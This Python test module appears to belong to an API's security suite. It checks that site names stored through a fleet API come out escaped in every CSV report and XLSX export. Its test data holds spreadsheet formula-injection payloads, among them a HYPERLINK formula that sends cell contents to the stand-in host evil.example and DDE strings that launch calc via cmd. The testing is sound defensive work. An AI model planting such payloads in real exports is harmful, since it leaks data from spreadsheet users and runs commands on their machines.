"""Formula injection through the fleet exports (CSV and XLSX): text a user may legitimately store (a site
name) that a spreadsheet would evaluate must come out escaped in every exported table.

Each hostile name is stored through the API (it is valid data), then every CSV report and the XLSX
workbook are read back. A case is "refused" when its name shows up escaped (a leading ') and never
raw; "stored" lists the cells where formula-like text reached an export unescaped. One more row checks
every cell of every export, whatever its origin.
"""

from __future__ import annotations

import csv
import io
from typing import Any, Final

from litestar import Litestar
from litestar.testing import AsyncTestClient

from tests.badinput.corpus import Row

Client = AsyncTestClient[Litestar]
TRIGGERS: Final = ("=", "+", "-", "@", "\t", "\r", "\n", "\0")
PAYLOAD: Final = 'HYPERLINK("http://evil.example/?leak="&A1,"open")'
# (case id, site name): each spreadsheet trigger, and control characters the XLSX writer strips, which
# would uncover a formula behind them if escaping ran before stripping.
HOSTILE_NAMES: Final = (
    ("export/equals", "=" + PAYLOAD),
    ("export/plus", "+" + PAYLOAD),
    ("export/minus", "-2+3+cmd|' /C calc'!A0"),
    ("export/at", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("export/tab", "\t=" + PAYLOAD),
    ("export/cr", "\r=" + PAYLOAD),
    ("export/lf", "\n=" + PAYLOAD),
    ("export/control-then-equals", "\x01=" + PAYLOAD),
    ("export/vertical-tab-then-equals", "\x0b=" + PAYLOAD),
)


def _unescaped(text: str) -> bool:
    """Text a spreadsheet would evaluate: starts with a trigger and is not simply a number."""
    if not text.startswith(TRIGGERS):
        return False
    try:
        float(text)
    except ValueError:
        return True
    return False


def _csv_cells(body: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")) for cell in row]


def _xlsx_cells(body: bytes) -> list[tuple[str, Any, str]]:
    """(sheet!cell, value, data type) of every cell of the workbook."""
    from openpyxl import load_workbook

    workbook = load_workbook(io.BytesIO(body))
    return [
        (f"{ws.title}!{cell.coordinate}", cell.value, cell.data_type)
        for ws in workbook.worksheets
        for row in ws.iter_rows()
        for cell in row
        if cell.value is not None
    ]


async def _exports(client: Client, headers: dict[str, str]) -> tuple[dict[str, list[str]], list[tuple[str, Any, str]]]:
    reports = await client.get("/api/v1/fleet/reports/", headers=headers)
    reports.raise_for_status()
    csvs: dict[str, list[str]] = {}
    for name in reports.json():
        response = await client.get(f"/api/v1/fleet/reports/{name}.csv", headers=headers)
        response.raise_for_status()
        csvs[f"{name}.csv"] = _csv_cells(response.content)
    workbook = await client.get("/api/v1/fleet/reports/fleet.xlsx", headers=headers)
    workbook.raise_for_status()
    return csvs, _xlsx_cells(workbook.content)


async def check_exports(client: Client, tokens: dict[str, dict[str, str]]) -> list[Row]:
    admin = tokens["admin"]
    for n, (_, name) in enumerate(HOSTILE_NAMES):
        name = f"{name} ~{n:02d}"  # a unique end, to find this name's cells
        site = {
            "code": f"FORMULA{n:02d}",
            "name": name,
            "country": "IS",
            "lat": 64.0,
            "lon": -21.9,
            "power_kw": 1000.0,
            "module_slots": 4,
            "renewable_source": "geothermal",
            "cooling": "free_air",
            "security_level": "commercial",
        }
        created = await client.post("/api/v1/sites", json=site, headers=admin)
        assert created.status_code in (200, 201), created.text
    csvs, xlsx = await _exports(client, admin)
    raw_csv = [(f"{table}", cell) for table, cells in csvs.items() for cell in cells if _unescaped(cell)]
    raw_xlsx = [
        (where, value) for where, value, kind in xlsx if kind == "f" or (isinstance(value, str) and _unescaped(value))
    ]
    rows: list[Row] = []
    for n, (case, _) in enumerate(HOSTILE_NAMES):
        tail = f" ~{n:02d}"
        in_csv = [(table, cell) for table, cells in csvs.items() for cell in cells if cell.endswith(tail)]
        in_xlsx = [(where, value) for where, value, _ in xlsx if isinstance(value, str) and value.endswith(tail)]
        stored = [f"{where}: {str(cell)[:40]!r}" for where, cell in raw_csv + raw_xlsx if str(cell).endswith(tail)]
        found = f"found in {len(in_csv)} CSV and {len(in_xlsx)} XLSX cells"
        refused = bool(in_csv) and bool(in_xlsx) and not stored
        rows.append(Row("export", case, "escaped", "escaped" if refused else found, refused, stored, found))
    every = [f"{where}: {str(cell)[:40]!r}" for where, cell in raw_csv + raw_xlsx]
    rows.append(Row("export", "export/every-cell", "escaped", "escaped" if not every else "raw", not every, every[:5]))
    return rows
